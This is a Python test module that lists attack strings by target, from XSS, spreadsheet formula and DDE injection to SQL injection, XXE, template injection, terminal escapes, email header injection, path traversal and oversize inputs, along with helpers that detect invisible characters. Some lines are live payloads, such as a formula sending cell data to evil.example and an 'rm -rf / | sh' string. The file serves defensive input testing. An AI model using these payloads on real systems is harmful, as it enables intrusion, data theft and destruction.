"""Attacks as texts, each by what it is meant for, and what all outputs are held to."""

from __future__ import annotations

import re
import unicodedata

MEGABYTE = 1_000_000

ATTACKS: dict[str, str] = {
    # --- markup
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>",
    "attributes": "\" onmouseover=\"alert(1)\" x='' autofocus onfocus='alert(2)",
    "end of the element": "</title></textarea></style></script><script>alert(1)</script>",
    "end of the comment": "--><script>alert(1)</script><!-- ]]><![CDATA[<b>x</b>]]> &lt;b&gt; &#60;i&#62;",
    "entities of XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;<?php echo 7*7 ?>',
    "address that runs": "javascript:alert(1)//https://x.example data:text/html,<script>alert(2)</script>",
    "JSON": '"},{"</script><script>alert(1)</script>":[\\u003c',
    # --- formulas
    "formula": '=HYPERLINK("https://evil.example/?"&A1;"open")',
    "plus": "+1+cmd|'/c calc'!A0",
    "minus": "-2+3+cmd|'/c calc'!A0",
    "at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "blanks": "   =1+1",
    "no-break blanks": "\u00a0\u3000\u2003=1+1",
    "behind what is not seen": "\u200b\ufeff\u202e=1+1",
    "full width": "＝1＋1",
    "cells": 'x",=1+1,"\r\n=2+2,;=3+3\t=4+4',
    # --- databases and templates
    "SQL": "'; DROP TABLE article; -- %_ \\' OR 1=1",
    "NUL": "before\x00after",
    "templates": "{{1337*1337}} {% raw %} {# x #} ${1337*1337} #{1337*1337} <%= 1337*1337 %>",
    "formats": "%s %(x)s %n {0} {x!r} {x.__class__} $x",
    # --- directions and what is not seen
    "directions": "safe\u202etxt.exe\u202c \u2066x\u2069 \u061c\u200e\u200fy",
    "what is not seen": "ad\u200bmin\u2060\ufeff\u00ad pay\U000e0069\U000e0067\U000e006epal",
    "no characters": "a\ufffeb\uffffc\U0001fffed \ud800e \ufdd0f",
    "other lines": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    # --- terminals
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07 \x9b2J\x9d0;x\x9c \x90x\x9c",
    "over the line": "good\rEVIL\x08\x08\x08\x08 \x7f\x07",
    "marks of tables": "[red]x[/red] [link=https://evil.example]x[/link] [/] [bold",
    # --- letters, calendars, chats, files
    "headers": "x\r\nBcc: victim@example.org\r\nContent-Type: text/html\r\n\r\n<b>body</b>",
    "encoded word": "=?utf-8?q?x=0d=0aBcc:_victim@example.org?= =?utf-8?b?DQpCY2M6IHhAeQ==?=",
    "end of the letter": "x\r\n.\r\nMAIL FROM:<victim@example.org>\r\n--===============1==--",
    "calendar": 'x\nEND:VEVENT\r\nBEGIN:VALARM\nATTENDEE:mailto:victim@example.org\n;,:\\n\\;\\,"^n',
    "calls": "<!channel> <!here> @everyone @here <@U123> @all &lt;!channel&gt; ＠everyone",
    "Markdown": "[x](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example|x> **b** `c`",
    "path": "../../../etc/passwd\\..\\..\\x %2e%2e%2f ~/.ssh $(id) `id` ; rm -rf / | sh",
    # --- sizes
    "long title": "A title that has no end " * (MEGABYTE // 24),
    "long word": "word" * (MEGABYTE // 4),
    "many words": " ".join(f"{number:x}q" for number in range(MEGABYTE // 9)),
    "long Han": "上合" * (MEGABYTE // 6),
    "marks upon marks": "z" + "\u0300" * 2000 + "algo",
}
LONG = {name for name, text in ATTACKS.items() if len(text) > 2000}

_ACTING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufffe\uffff"
    "\ud800-\udfff\U000e0000-\U000e0fff]"
)


def acting(text: str) -> list[str]:
    """The characters of a text that do something, hide, or turn others, in place of showing; tab and line end apart."""
    return _ACTING.findall(text)


def seen(text: str) -> str:
    """What the eye sees of the beginning of a text: letters, figures and signs, without what cannot be stored."""
    return "".join(
        one for one in text[:20_000] if unicodedata.category(one)[0] in "LNPS" and one != "\N{REPLACEMENT CHARACTER}"
    )


def stored(text: str) -> str:
    """A text as databases hold it."""
    return re.sub("[\0\ud800-\udfff]", "\N{REPLACEMENT CHARACTER}", text)


def beginning(text: str) -> str:
    """The beginning of what is seen of an attack; the rest may be cut off."""
    return seen(text[:120])
